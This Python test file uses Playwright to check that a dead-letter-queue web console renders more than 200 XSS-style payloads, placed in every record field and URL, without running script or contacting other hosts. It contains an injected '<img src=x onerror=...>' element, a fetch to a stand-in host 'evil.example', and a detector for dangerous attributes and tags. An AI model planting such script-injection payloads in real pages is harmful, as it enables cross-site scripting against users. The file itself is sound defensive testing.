"""No record, whatever is in it, runs or fetches anything in the browser of who looks at it.

The `visitor` fails the test if a page runs code of a record, opens a dialog, asks another host, or has anything in it
that its own policy forbids: what is only kept from running was put into the page all the same.
"""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest
from memory_desk import MemoryDesk, dead, shop
from payloads import FEW, PAYLOADS
from served_console import serving

from streamworker.record import Origin
from streamworker.replay.dead_record import LetterId
from streamworker.replay.desk import Action, GroupPartition, GroupSummary, Rates, Request, Role
from streamworker.replay.desk import Actor as DeskActor

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Page
    from served_console import Served, Visitor

TOPIC = "/topics/orders.dlq"
# Elements and attributes that no page of ours has, and addresses that lead away.
_STRANGE = """() => {
  const own = location.origin;
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$|^(data-)?hx-on/.test(name)) { found.push(`${element.tagName} ${name}`); }
      const leads = /^(src|href|action|formaction|data|poster|background|srcset)$/.test(name);
      if (leads && new URL(value, location).origin !== own) { found.push(`${element.tagName} ${name}=${value}`); }
    }
    if (/^(IFRAME|OBJECT|EMBED|BASE|STYLE|VIDEO|AUDIO|MATH)$/i.test(element.tagName)) { found.push(element.tagName); }
    if (element.tagName === "SCRIPT" && !element.src) { found.push("SCRIPT"); }
  }
  return found;
}"""


@pytest.fixture
def served() -> Iterator[Served]:
    """A desk all of whose letters are payloads, in each of their parts."""
    letters = [
        dead(
            0,
            number,
            age_min=number,
            key=text.encode(),
            value=text.encode(),
            message=text,
            exception=text,
            reason=text,
            handler=text,
            group=text,
            family=text,
            fingerprint=text,
            stacktrace=text,
            origin=Origin(text, 0, 1),
            headers=[(text, text.encode()), ("plain", None)],
            damaged=(text,),
            parent=text,
        )
        for number, text in enumerate(PAYLOADS)
    ]
    desk = MemoryDesk([*letters, *shop().letters])
    desk.group_summaries = [
        GroupSummary(text, text, 1, [GroupPartition(text, 0, 1, 1, 0, text, (text,))], {text: text}, text)
        for text in PAYLOADS
    ]
    with serving(desk) as console:
        yield console


def looked_at(page: Page) -> Page:
    assert page.evaluate(_STRANGE) == []
    return page


def as_sent(text: str) -> str:
    """What a page shows of it: a browser has no NUL in its text."""
    return text.replace("\x00", "\u2400")


def test_there_are_enough_of_them_and_no_two_are_the_same() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 200


def test_a_page_shows_each_letter_as_it_is_and_runs_nothing(visitor: Callable[..., Visitor], served: Served) -> None:
    visit = visitor(Role.EDITOR)

    for number in range(len(PAYLOADS)):
        page = looked_at(visit.go(f"{TOPIC}/0/{number}"))
        shown = page.evaluate("() => document.querySelector('#value pre').textContent")
        value = served.desk.detail("orders.dlq", LetterId(0, number)).value
        assert shown == as_sent(value.text)
        name, header = page.evaluate(
            "() => [...document.querySelector('.headers tr').children].map((e) => e.textContent)"
        )
        assert name == as_sent(PAYLOADS[number])
        assert header.startswith(as_sent(served.desk.detail("orders.dlq", LetterId(0, number)).headers[0][1].text))


def test_an_editor_and_its_plan_run_nothing(visitor: Callable[..., Visitor], served: Served) -> None:
    visit = visitor(Role.EDITOR)

    for text in FEW:
        number = PAYLOADS.index(text)
        looked_at(visit.go(f"{TOPIC}/0/{number}/repair"))
        request = Request(
            topic="orders.dlq",
            action=Action.REPAIR,
            ids=(LetterId(0, number),),
            edited=f"{text}\n{text}",
            note=text,
            target=text,
        )
        plan = served.desk.plan(DeskActor(text, Role.ADMIN, text, verified=False), request)
        looked_at(visit.go(f"/plans/{plan.id}"))


@pytest.mark.parametrize("view", ["errors", "letters"])
def test_lists_of_letters_run_nothing(view: str, visitor: Callable[..., Visitor]) -> None:
    visit = visitor(Role.EDITOR)
    page = looked_at(visit.go(f"{TOPIC}?view={view}&q="))

    while older := page.get_by_role("link", name="Older").all():
        older[0].click()
        page.wait_for_load_state()
        looked_at(page)


def test_an_address_with_a_payload_in_it_runs_nothing(visitor: Callable[..., Visitor]) -> None:
    visit = visitor(Role.EDITOR)
    visit.expected = ("log: Failed to load resource",)

    for text in FEW:
        asked = quote(text, safe="")
        looked_at(visit.go(f"{TOPIC}?q={asked}"))
    for text in FEW[::6]:
        asked = quote(text, safe="")
        for path in (
            f"/audit?text={asked}",
            f"/topics/{asked}",
            f"/login?token={asked}&next={asked}",
            f"{TOPIC}/prepare?action=replay&q={asked}",
        ):
            looked_at(visit.go(path))


def test_the_audit_operations_and_groups_run_nothing(visitor: Callable[..., Visitor], served: Served) -> None:
    for number, text in enumerate(PAYLOADS):
        actor = DeskActor(text, Role.ADMIN, text, verified=False)
        request = Request(
            topic="orders.dlq", action=Action.DISCARD, ids=(LetterId(0, number),), note=text, reason_code=text
        )
        served.desk.run(actor, served.desk.plan(actor, request).id, Rates())
        served.desk.noted(actor, text, {text: text})
    visit = visitor(Role.ADMIN)

    for path in ("/operations", "/operations/op-0001", "/groups", "/audit", "/", f"{TOPIC}/0/0"):
        looked_at(visit.go(path))


def test_the_watch_itself_sees_what_runs_and_what_is_forbidden(visitor: Callable[..., Visitor]) -> None:
    visit = visitor(Role.VIEWER)

    visit.page.evaluate(
        "() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=ran(1)>'); ran(2); }"
    )
    visit.page.evaluate("() => fetch('http://evil.example/x').catch(() => 0)")
    visit.page.wait_for_timeout(50)

    kinds = {what.partition(":")[0] for what in visit.wrong}
    strange = visit.page.evaluate(_STRANGE)
    visit.wrong.clear()
    assert {"ran", "forbidden"} <= kinds
    assert strange == ["IMG onerror"]
